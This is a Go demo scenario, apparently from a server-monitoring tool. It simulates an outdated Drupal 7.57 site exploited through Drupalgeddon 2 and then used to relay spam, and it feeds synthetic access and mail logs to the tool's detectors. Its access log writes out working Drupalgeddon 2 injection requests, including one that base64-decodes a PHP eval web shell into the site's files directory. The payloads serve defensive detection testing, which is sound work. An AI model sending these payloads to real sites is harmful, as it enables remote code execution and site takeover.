package demo

import (
	"context"
	"embed"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"github.com/vigie/vigie/internal/mail"
	"github.com/vigie/vigie/internal/mail/mailgen"
	"github.com/vigie/vigie/internal/vigie"
	"github.com/vigie/vigie/internal/webapps"
)

// 2. An outdated Drupal turned spam relay: Drupalgeddon 2 requests in its
// access log, then mail injected locally through sendmail (pickup) by the
// site's uid, not through authenticated SMTP.
//
// The bundled tree (data/asso-home/web) holds the files the web scanner
// reads of a Drupal 7.57 (includes/bootstrap.inc with its VERSION, the
// markers, sites/default/settings.php). It is written to a temporary
// directory and scanned there; the scanner reads the owner uid from the
// directory, and the mail log's pickup lines carry the uid it read, so the
// site and its spam meet in one incident by the uid (grouping rule 3).
// When the demo runs as root the tree is first given to relayUID, an
// account a hoster would have; otherwise it stays the current user's.
const (
	relayHost = "asso-home.example"
	relayUID  = 1004
	attacker  = "45.95.147.236"
)

//go:embed data/asso-home
var relayTree embed.FS

func drupalRelay() Scenario {
	return Scenario{
		Name:  "drupal-relay",
		Title: "An outdated Drupal relays spam through pickup",
		Run: func(ctx context.Context, env *Env) (Result, error) {
			root := filepath.Join(env.Dir, "var", "www")
			docroot := filepath.Join(root, "asso-home", "web")
			if err := writeTree(relayTree, "data", root); err != nil {
				return Result{}, errorf("drupal-relay", "writing the site: %w", err)
			}
			// Untouched since the 7.57 release, as such sites are.
			released := time.Date(2018, 2, 21, 10, 0, 0, 0, time.UTC)
			if err := filepath.WalkDir(root, func(p string, _ fs.DirEntry, err error) error {
				if err == nil {
					err = os.Chtimes(p, released, released)
				}
				return err
			}); err != nil {
				return Result{}, errorf("drupal-relay", "dating the site: %w", err)
			}
			if os.Geteuid() == 0 {
				if err := filepath.WalkDir(filepath.Join(root, "asso-home"), func(p string, _ fs.DirEntry, err error) error {
					if err == nil {
						err = os.Lchown(p, relayUID, relayUID)
					}
					return err
				}); err != nil {
					return Result{}, errorf("drupal-relay", "giving the site to uid %d: %w", relayUID, err)
				}
			}
			scanned := env.Now.Add(-20 * time.Hour).Truncate(time.Minute)
			exploit := env.Now.Add(-3 * time.Hour).Truncate(time.Minute)
			c := &collector{}

			// The web watch's scan, as it ran the day before.
			var installs []*webapps.Install
			if _, err := webapps.Scan(ctx, []string{root}, webapps.ScanOptions{Data: webapps.EmbeddedData(),
				Now: func() time.Time { return scanned }, MaxDepth: 2}, func(in *webapps.Install) { installs = append(installs, in) }); err != nil {
				return Result{}, errorf("drupal-relay", "scan: %w", err)
			}
			if len(installs) != 1 || installs[0].Path != docroot {
				return Result{}, errorf("drupal-relay", "the scan found %d installs, want the Drupal at %s", len(installs), docroot)
			}
			for _, in := range installs {
				c.out = append(c.out, webapps.InstallFindings(in, scanned)...)
			}
			inv := &webapps.Inventory{}
			inv.Set(installs)

			// The site's access log: visitors, then the attack.
			set := webapps.NewReplaySet(webapps.LogOptions{Log: "/var/log/nginx/" + relayHost + ".access.log", Site: docroot,
				Inventory: inv}, c.emit)
			unread := 0
			lines(accessLog(exploit), func(l string) {
				if _, ok := set.Line(l); !ok {
					unread++
				}
			})
			if unread > 0 {
				return Result{}, errorf("drupal-relay", "the access-log detectors could not read %d of the bundled lines", unread)
			}

			// The mail log: the site's uid starts injecting mail through
			// pickup ten minutes after the exploit, over the normal traffic.
			sc := mailgen.Scenario{Start: exploit.Add(-time.Hour), End: env.Now, Seed: 2, Users: 25, PerUserPerDay: 20, InboundPerHour: 40,
				Bursts: []mailgen.Burst{{UID: installs[0].UID, Start: exploit.Add(10 * time.Minute), Every: 800 * time.Millisecond,
					Count: 4 * 3600, Rcpts: 2, Domains: 300}}}
			res, err := replayMail(ctx, sc, env.Now, map[string]bool{mail.UIDSubject(installs[0].UID): true}, false)
			if err != nil {
				return res, err
			}
			res.Findings = append(res.Findings, c.out...)
			for _, in := range installs {
				res.Samples = append(res.Samples, vigie.Sample{Series: string(webapps.SeriesInstalls), Subject: string(in.Status), Time: scanned, Value: 1},
					vigie.Sample{Series: string(webapps.SeriesInstalls), Subject: string(in.Status), Time: env.Now, Value: 1})
			}
			return res, nil
		},
	}
}

// writeTree copies the embedded directory dir to dest.
func writeTree(fsys embed.FS, dir, dest string) error {
	return fs.WalkDir(fsys, dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		out := filepath.Join(dest, strings.TrimPrefix(p, dir))
		if d.IsDir() {
			return os.MkdirAll(out, 0o755)
		}
		b, err := fsys.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(out, b, 0o644)
	})
}

// accessLog is the site's nginx log (host-first combined format) around
// the exploit: a few visitors a minute, then a Drupalgeddon 2 scanner
// probing user/password and file/ajax, answered 200.
func accessLog(exploit time.Time) string {
	type entry struct {
		t    time.Time
		line string
	}
	var es []entry
	line := func(t time.Time, ip, method, target string, status, size int, ua string) {
		es = append(es, entry{t, fmt.Sprintf("%s %s - - [%s] \"%s %s HTTP/1.1\" %d %d \"-\" \"%s\"",
			relayHost, ip, t.UTC().Format("02/Jan/2006:15:04:05 -0700"), method, target, status, size, ua)})
	}
	pages := []string{"/", "/?q=node/12", "/?q=actualites", "/misc/drupal.js", "/?q=contact", "/?q=node/7"}
	start := exploit.Add(-2 * time.Hour)
	for i, t := 0, start; t.Before(exploit.Add(time.Hour)); i, t = i+1, t.Add(37*time.Second) {
		line(t, fmt.Sprintf("203.0.113.%d", 10+i%40), "GET", pages[i%len(pages)], 200, 4000+i%3000,
			"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	}
	attacks := []struct{ method, target string }{
		{"GET", "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id"},
		{"POST", "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id"},
		{"POST", "/?q=file/ajax/name/%23value/form-8aRoPmAe0cUZyOJ5dRHd"},
		{"POST", "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=echo+PD9waHAgQGV2YWwoJF9QT1NUWyJjIl0pOyA/Pg==|base64+-d+>sites/default/files/.cache.php"},
		{"POST", "/?q=file/ajax/name/%23value/form-8aRoPmAe0cUZyOJ5dRHd"},
	}
	for i, a := range attacks {
		line(exploit.Add(time.Duration(i)*4*time.Minute), attacker, a.method, a.target, 200, 312, "python-requests/2.18.4")
	}
	sort.SliceStable(es, func(i, j int) bool { return es[i].t.Before(es[j].t) })
	var b strings.Builder
	for _, e := range es {
		b.WriteString(e.line)
		b.WriteByte('\n')
	}
	return b.String()
}
